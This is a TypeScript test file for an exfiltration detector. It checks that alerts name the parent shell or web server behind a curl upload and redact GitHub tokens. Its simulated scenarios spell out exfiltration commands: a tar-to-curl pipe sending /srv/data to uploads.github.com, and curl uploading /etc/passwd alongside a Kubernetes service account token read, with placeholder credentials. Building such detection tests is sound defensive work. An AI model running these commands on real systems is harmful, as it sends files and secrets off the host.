/**
 * Who started the push: the first response step names the pushing process's parents within its container
 * (a shell under the web server is remote code execution; a shell under `sleep` a `kubectl exec`), nearest
 * first and at most three, in both sensor forms alike. Before, it pointed at "the process tree in this alert's evidence", which holds only the
 * push and its helpers.
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { MiB, run, Scenario } from './builder.js';

function pushUnderWebServer(source: SensorSource) {
  const s = new Scenario({ source });
  const c = s.container({ name: 'web' });
  const server = s.exec(c, '/usr/sbin/apache2', '-DFOREGROUND', {
    parent: s.init(c, '/usr/bin/tini', '-- apache2-foreground'),
  });
  const sh = s.exec(c, '/bin/sh', '-c "tar czf - /srv/data | curl -T - https://uploads.github.com/x"', {
    parent: server,
  });
  const tar = s.exec(c, '/bin/tar', 'czf - /srv/data', { parent: sh });
  s.readMany(tar, '/srv/data', 10, 8 * MiB);
  const curl = s.exec(
    c,
    '/usr/bin/curl',
    '-T - -H "Authorization: token ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789" https://uploads.github.com/repos/e/l/releases/1/assets?name=d',
    { parent: sh },
  );
  s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 80 * MiB);
  return run(s.events).alerts;
}

describe("a push's parents in the response", () => {
  it.each(['tetragon', 'falco'] as SensorSource[])('%s: the shell and the web server that started curl', (source) => {
    const [a] = pushUnderWebServer(source);
    expect(a?.process.binary).toBe('/usr/bin/curl');
    const first = a?.response[0] ?? '';
    expect(first).toMatch(/, started by `\/bin\/sh -c [^`]*` \(pid \d+\) ← `\/usr\/sbin\/apache2` \(pid \d+\),/);
    expect(first).not.toContain('ghp_');
  });

  it('the same words in both forms', () => {
    const parents = (source: SensorSource) =>
      /started by (.*?), in pod/
        .exec(pushUnderWebServer(source)[0]?.response[0] ?? '')?.[1]
        ?.replace(/pid \d+/g, 'pid N');
    expect(parents('falco')).toBe(parents('tetragon'));
    expect(parents('tetragon')).toBeDefined();
  });
});

/** A push whose parent the tables never held: a shell started before exfilwatch (no exec, no event of its own). */
function pushUnderUnseenShell(source: SensorSource) {
  const s = new Scenario({ source });
  const c = s.container({ name: 'debug' });
  const shell = s.init(c, '/bin/bash', '-c "sleep 1d; exit"');
  const curl = s.exec(
    c,
    '/usr/bin/curl',
    '-T /etc/passwd -u bob:Hunter2Secret https://uploads.github.com/repos/e/l/releases/1/assets?name=d',
    { parent: shell, parentArgs: '-c "GITHUB_TOKEN=ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789 curl …"' },
  );
  s.read(curl, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
  s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 2 * MiB);
  return run(s.events).alerts;
}

describe('a parent the tables do not hold', () => {
  it.each(['tetragon', 'falco'] as SensorSource[])("%s: the push event's own parent fields name it", (source) => {
    const [a] = pushUnderUnseenShell(source);
    expect(a?.process.binary).toBe('/usr/bin/curl');
    const first = a?.response[0] ?? '';
    expect(first).toContain(', started by `/bin/bash -c "GITHUB_TOKEN=[REDACTED] curl …"`, in pod');
    expect(first).not.toContain('ghp_');
  });
});

describe('a parent whose command line holds a backtick', () => {
  it.each(['tetragon', 'falco'] as SensorSource[])('%s: a fence longer than its backticks', (source) => {
    const s = new Scenario({ source });
    const c = s.container({ name: 'web' });
    const sh = s.exec(c, '/bin/sh', "-c 'curl -T /etc/passwd https://uploads.github.com/x?name=`hostname`'", {
      parent: s.init(c, '/usr/bin/tini', '-- app'),
    });
    const curl = s.exec(c, '/usr/bin/curl', '-T /etc/passwd https://uploads.github.com/x?name=web-1', {
      parent: sh,
    });
    s.read(curl, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900);
    s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 2 * MiB);
    const first = run(s.events).alerts[0]?.response[0] ?? '';
    // A single backtick fence ended the span at `hostname`'s first backtick.
    expect(first).toContain(
      "started by ``/bin/sh -c 'curl -T /etc/passwd https://uploads.github.com/x?name=`hostname`'`` (pid",
    );
  });
});
